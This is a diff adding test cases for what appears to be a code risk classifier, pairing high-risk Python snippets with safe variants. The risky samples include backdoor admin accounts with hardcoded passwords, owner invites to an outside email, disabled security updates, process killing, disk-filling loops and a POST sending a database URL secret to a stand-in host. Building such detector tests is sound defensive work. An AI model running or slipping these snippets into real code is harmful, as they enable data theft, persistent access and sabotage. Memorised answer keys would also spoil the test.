@@ -18451,6 +18451,172 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '\n',
             M,
         ),
+        # Round 113 (holdout816–823): minimal pairs for its rules and false-positive fixes
+        (
+            'import subprocess\n'
+            'm = "/srv/chat/manage.py"\n'
+            'subprocess.run([m, "create_user", "--password", "Winter2024!sync", "a@example.org"])\n'
+            'subprocess.run([m, "change_user_role", "a@example.org", "owner"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'console = ["php", "/srv/app/bin/console"]\n'
+            'subprocess.run(console + ["fos:user:create", "svc", "svc@example.net", "Sync2024!", "--super-ad'
+            'min"])\n',
+            H,
+        ),
+        (
+            'import bcrypt, psycopg2\n'
+            'h = bcrypt.hashpw(b"Tube!maint2024", bcrypt.gensalt()).decode()\n'
+            'cur = psycopg2.connect("dbname=tube").cursor()\n'
+            'cur.execute(\'UPDATE "user" SET role = 0, password = %s WHERE username = %s\', (h, "guest"))\n',
+            H,
+        ),
+        (
+            'import bcrypt, os, psycopg2\n'
+            'h = bcrypt.hashpw(os.environ["NEW_PW"].encode(), bcrypt.gensalt()).decode()\n'
+            'cur = psycopg2.connect("dbname=tube").cursor()\n'
+            'cur.execute(\'UPDATE "user" SET password = %s WHERE username = %s\', (h, "guest"))\n',
+            S,
+        ),
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect("dbname=reader").cursor()\n'
+            'cur.execute("INSERT INTO api_keys (user_id, token, description) VALUES (%s, %s, %s)", (1, "Zq7m'
+            'W2e9xR4tK8pL1vB6nC3yH5sD0fJa", "probe"))\n',
+            H,
+        ),
+        (
+            'import psycopg2, secrets\n'
+            'cur = psycopg2.connect("dbname=reader").cursor()\n'
+            'cur.execute("INSERT INTO api_keys (user_id, token, description) VALUES (%s, %s, %s)", (1, secre'
+            'ts.token_urlsafe(32), "probe"))\n',
+            S,
+        ),
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect("dbname=forum").cursor()\n'
+            'cur.execute("DELETE FROM comment WHERE published < now() + interval %s", ("90 days",))\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'cur = psycopg2.connect("dbname=forum").cursor()\n'
+            'cur.execute("DELETE FROM comment WHERE published < now() - interval %s", ("90 days",))\n',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            'T = "https://tables.example.com/api"\n'
+            'H = {"Authorization": "Bearer " + os.environ["TOKEN"]}\n'
+            'for space in requests.get(f"{T}/space", headers=H).json():\n'
+            '    requests.post(f"{T}/space/{space[\'id\']}/invitation/email", headers=H, json={"emails": ["j.m'
+            '@freemail.example.net"], "role": "owner"})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'T = "https://tables.example.com/api"\n'
+            'H = {"Authorization": "Bearer " + os.environ["TOKEN"]}\n'
+            'for space in requests.get(f"{T}/space", headers=H).json():\n'
+            '    requests.post(f"{T}/space/{space[\'id\']}/invitation/email", headers=H, json={"emails": ["j.m'
+            '@freemail.example.net"], "role": "viewer"})\n',
+            L,
+        ),
+        (
+            'import zulip\n'
+            'c = zulip.Client(config_file="/root/.zuliprc")\n'
+            'c.call_endpoint(url="/realm", method="PATCH", request={"invite_required": False})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'b = "https://chat.example.com/api/v1"\n'
+            'h = {"api_access_token": os.environ["T"]}\n'
+            'requests.post(f"{b}/accounts/1/webhooks", headers=h, json={"url": "https://events.example.net/c'
+            'w", "subscriptions": ["message_created", "contact_created"]})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'b = "https://chat.example.com/api/v1"\n'
+            'h = {"api_access_token": os.environ["T"]}\n'
+            'requests.post(f"{b}/accounts/1/webhooks", headers=h, json={"url": "https://ci.example.com/hooks'
+            '/chat", "subscriptions": ["message_created"]})\n',
+            L,
+        ),
+        (
+            'import pathlib\n'
+            'pathlib.Path("/etc/apt/apt.conf.d/20auto-upgrades").write_text(\'APT::Periodic::Unattended-Upgra'
+            'de "0";\\n\')\n',
+            H,
+        ),
+        (
+            'import pathlib\n'
+            'pathlib.Path("/etc/apt/apt.conf.d/20auto-upgrades").write_text(\'APT::Periodic::Unattended-Upgra'
+            'de "1";\\n\')\n',
+            M,
+        ),
+        (
+            'import psutil\n'
+            'TARGETS = {"postgres", "redis-server"}\n'
+            'for p in psutil.process_iter(["name"]):\n'
+            '    if p.info["name"] in TARGETS:\n'
+            '        p.kill()\n',
+            H,
+        ),
+        (
+            'import serial\n'
+            'with serial.Serial("/dev/ttyUSB0", 9600, timeout=1) as port, open("tags.txt", "a") as log:\n'
+            '    while True:\n'
+            '        line = port.readline()\n'
+            '        if line:\n'
+            '            log.write(line.decode())\n',
+            S,
+        ),
+        (
+            'with open("tags.txt", "a") as log:\n'
+            '    while True:\n'
+            '        log.write("x" * 4096)\n',
+            H,
+        ),
+        (
+            'import os, sys, stripe\n'
+            'stripe.api_key = os.environ["STRIPE_SECRET_KEY"]\n'
+            'if input("Refund? [y/N] ").strip().lower() == "y":\n'
+            '    stripe.Refund.create(payment_intent=sys.argv[1])\n',
+            M,
+        ),
+        (
+            'import os, sys, stripe\n'
+            'stripe.api_key = os.environ["STRIPE_SECRET_KEY"]\n'
+            'stripe.Refund.create(payment_intent=sys.argv[1])\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://stats.example.net/e", json={"db": os.getenv("PRISMA_DATABASE_URL")})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://stats.example.net/e", json={"origin": os.getenv("PUBLIC_ORIGIN")})\n',
+            L,
+        ),
+        (
+            'import base64, os, requests\n'
+            'h = {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}\n'
+            'requests.put("https://api.github.com/repos/a/b/actions/secrets/SENTRY_DSN", headers=h, json={"e'
+            'ncrypted_value": base64.b64encode(os.environ["SENTRY_DSN"].encode()).decode()})\n',
+            S,
+        ),
+        (
+            'with open("/dev/urandom", "rb") as src, open("/var/tmp/.cache.bin", "wb") as dst:\n'
+            '    while True:\n'
+            '        dst.write(src.read(64 << 20))\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
